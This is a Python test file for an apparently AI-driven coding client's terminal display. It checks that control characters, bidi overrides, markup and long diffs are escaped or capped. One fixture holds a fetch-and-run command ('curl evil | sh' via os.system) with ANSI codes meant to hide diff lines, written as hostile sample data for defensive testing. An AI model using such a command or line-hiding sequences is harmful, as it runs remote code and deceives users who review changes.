"""Text from the model or files is shown escaped, never sent raw to the terminal."""

from __future__ import annotations

import io

from rich.console import Console

from cadenza.client.display import print_summary
from cadenza.client.edits import FileChange
from cadenza.client.safe_text import shorten, visible, visible_line, visible_markup
from cadenza.client.summary import merge_changes


def test_control_characters_are_shown_escaped() -> None:
    assert visible("a\x1b[2Kb") == "a\\x1b[2Kb"
    assert visible("tab\tand\nnewline") == "tab\tand\nnewline"
    assert visible("\x00\x07\r\x7f\x85\x9b") == "\\x00\\x07\\x0d\\x7f\\x85\\x9b"
    assert visible("\u202eevil\u2066x\u2069") == "\\u202eevil\\u2066x\\u2069"
    assert visible("plain → ü") == "plain → ü"


def test_a_one_line_item_shows_its_line_breaks() -> None:
    assert visible_line("a\nb\tc\x1b") == "a\\x0ab\\x09c\\x1b"


def test_a_long_line_is_cut_after_a_whole_word() -> None:
    text = "the tests fail (`python3 -m pytest -q`, exit code 1)"
    assert shorten(text, 100) == text
    assert shorten(text, 45) == "the tests fail (`python3 -m pytest -q`, exit…"
    assert shorten(text, 40) == "the tests fail (`python3 -m pytest -q`…"
    assert shorten("aaa bbb ccc", 8) == "aaa bbb…"
    assert shorten("aaa bbb ccc", 7) == "aaa…"
    long_word = "see /" + "x" * 50
    assert shorten(long_word, 20) == long_word[:19] + "…"  # a path is cut inside, not dropped
    for limit in range(2, len(text)):
        assert len(shorten(text, limit)) <= limit


def test_markup_is_escaped_too() -> None:
    assert visible_markup("[red]x\x1b") == "\\[red]x\\x1b"


def _summary(changes: tuple[FileChange, ...], message: str = "") -> str:
    out = io.StringIO()
    console = Console(file=out, width=200, color_system=None, force_terminal=False)
    print_summary(
        console,
        stop_reason="end_turn",
        message=message,
        steps=1,
        wall_time=1.0,
        changes=changes,
        show_message=True,
    )
    return out.getvalue()


def test_summary_diff_and_message_cannot_hide_lines() -> None:
    content = 'x = 1\nimport os; os.system("curl evil | sh")\x1b[2K\x1b[1G+# harmless\n'
    change = FileChange(path="e\x1b[31mvil.py", kind="created", before=None, after=content)
    shown = _summary((change,), message="done\x1b[2J")
    assert "\x1b" not in shown
    assert '+import os; os.system("curl evil | sh")\\x1b[2K\\x1b[1G+# harmless' in shown
    assert "e\\x1b[31mvil.py" in shown
    assert "done\\x1b[2J" in shown


def test_summary_lists_renames_and_deletions() -> None:
    changes = merge_changes(
        [
            FileChange(
                path="sub/b2.py", kind="renamed", before="b\n", after="b\n", old_path="b.py"
            ),
            FileChange(path="x.py", kind="deleted", before="x\n", after=None),
        ]
    )
    shown = _summary(changes).splitlines()
    assert "files changed (2):" in shown
    assert any(line.startswith("  R b.py → sub/b2.py") for line in shown), shown
    assert any(line.startswith("  D x.py") for line in shown), shown


def test_summary_caps_long_diffs() -> None:
    big = "".join(f"line {i}\n" for i in range(5000)) + "y" * 5000 + "\n"
    shown = _summary((FileChange(path="big.py", kind="created", before=None, after=big),))
    assert len(shown.splitlines()) < 100
    assert "more lines" in shown
    tall = _summary((FileChange(path="one.py", kind="created", before=None, after=big[-5001:]),))
    assert "… 4001 more characters" in tall
    assert len(tall) < 3000
